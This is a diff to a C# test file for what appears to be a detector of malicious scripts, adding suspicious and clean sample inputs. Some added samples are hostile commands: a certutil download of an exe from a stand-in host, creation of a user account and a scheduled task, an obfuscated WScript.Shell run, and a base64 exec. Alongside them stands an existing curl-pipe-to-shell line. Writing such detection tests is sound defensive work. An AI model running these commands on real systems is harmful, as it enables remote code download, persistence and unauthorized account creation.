@@ -19,6 +19,9 @@ public sealed class ScriptFileTests
     [InlineData("#!/bin/sh\ncurl http://a.example/x | sh -s\n", "a.sh")]
     [InlineData("#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "a.py")]
     [InlineData("#@~^XAAAAA==encoded", "a.vbe")]
+    [InlineData("import base64,sys;exec(base64.b64decode(b'cHJpbnQoMSk='))", "a.py")]
+    [InlineData("//some words that say nothing\n_0x1=['a'];\n_0x2=_0x1[0];\nnew ActiveXObject('WScript.Shell')['Run'](_0x2);", "a.js")]
+    [InlineData("net user a b /add\r\nschtasks /create /tn a /tr b\r\ncertutil -urlcache -f http://a.example/x x.exe", "a.bat")]
     public void Complete_ScriptThatActs_IsSuspiciousByItselfAndInside(string script, string name)
     {
         var alone = Judged.Of(script);
@@ -50,6 +53,12 @@ public sealed class ScriptFileTests
     [InlineData("Only one line")]
     [InlineData("# How to\n\n```js\n'use strict';\nrequire('child_process').exec('ls');\n```\n")]
     [InlineData("map x =cmd | pipe\n")]
+    [InlineData("/* A header. */\n#ifndef A_H\n#define A_H\nextern const char *const a;\nclass A {\n};\nclass B {\n};\n#endif\n")]
+    [InlineData("// 'use strict'\nusing System;\nnamespace A;\nclass B {\n  void C() { var d = 1;\n  var e = 2; }\n};\n")]
+    [InlineData("#![no_std]\nuse std::fs;\nfn main() {\nlet a = 1;\nlet b = 2;\n};\n")]
+    [InlineData("all: a\n\t$(CC) -o a a.c\n$(A) $(B)\n$(C) = d\n")]
+    [InlineData("[main]\nname = value\nother = 2\n")]
+    [InlineData("See (above) and below\n")]
     public void Complete_PlainText_IsClean(string text)
     {
         var report = Judged.Of(text);
